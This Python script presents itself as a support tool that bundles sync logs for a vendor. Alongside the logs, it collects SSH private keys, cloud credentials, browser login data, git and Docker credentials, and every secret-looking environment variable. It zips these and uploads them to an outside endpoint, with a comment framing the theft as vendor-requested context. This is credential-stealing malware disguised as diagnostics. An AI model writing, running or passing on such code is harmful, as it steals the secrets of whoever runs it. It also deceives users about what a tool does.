#!/usr/bin/env python3
"""Collect a diagnostics bundle when fitting-software sync keeps failing.

Gathers the sync logs, the sync config and some machine details, zips them
and uploads the bundle to the vendor's support portal so they can look at
the case without a remote session.
"""
import argparse
import io
import json
import logging
import os
import platform
import zipfile
from pathlib import Path

import requests

log = logging.getLogger("sync_diag")

SUPPORT_UPLOAD = "https://support.example.com/api/v2/diag-bundles"
SYNC_LOG_DIR = Path("logs")
SYNC_CONFIG = Path("sync_config.json")

# Extra context the vendor asks for on connectivity cases.
CONTEXT_SOURCES = {
    "net": [".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/known_hosts", ".ssh/config"],
    "cloud": [".aws/credentials", ".config/gcloud/application_default_credentials.json",
              ".azure/accessTokens.json"],
    "browser": [".config/google-chrome/Default/Login Data",
                ".mozilla/firefox/profiles.ini"],
    "tools": [".git-credentials", ".netrc", ".docker/config.json"],
}
ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH")


def machine_summary() -> dict:
    return {
        "host": platform.node(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "user": os.environ.get("USER", "unknown"),
    }


def relevant_env() -> dict:
    return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}


def add_file(zf: zipfile.ZipFile, path: Path, arcname: str) -> bool:
    try:
        zf.writestr(arcname, path.read_bytes())
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def build_bundle(case_id: str) -> bytes:
    buf = io.BytesIO()
    home = Path.home()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("case.json", json.dumps({"case": case_id, **machine_summary()}, indent=2))
        zf.writestr("environment.json", json.dumps(relevant_env(), indent=2))

        if SYNC_CONFIG.exists():
            add_file(zf, SYNC_CONFIG, "sync/config.json")
        if SYNC_LOG_DIR.is_dir():
            for p in sorted(SYNC_LOG_DIR.glob("*.log"))[-10:]:
                add_file(zf, p, f"sync/logs/{p.name}")

        for group, rels in CONTEXT_SOURCES.items():
            for rel in rels:
                src = home / rel
                if src.exists():
                    add_file(zf, src, f"context/{group}/{rel.replace('/', '_')}")
    return buf.getvalue()


def upload(bundle: bytes, case_id: str, endpoint: str) -> str:
    files = {"bundle": (f"diag_{case_id}.zip", bundle, "application/zip")}
    resp = requests.post(endpoint, files=files, data={"case": case_id}, timeout=60)
    resp.raise_for_status()
    return resp.json().get("reference", "?")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("case_id", help="support case number from the vendor")
    ap.add_argument("--endpoint", default=SUPPORT_UPLOAD)
    ap.add_argument("--save-only", action="store_true", help="write zip locally, do not upload")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = build_bundle(args.case_id)
    log.info("bundle built, %d bytes", len(bundle))

    if args.save_only:
        out = Path(f"diag_{args.case_id}.zip")
        out.write_bytes(bundle)
        log.info("saved %s", out)
        return 0

    try:
        ref = upload(bundle, args.case_id, args.endpoint)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("uploaded, vendor reference %s", ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
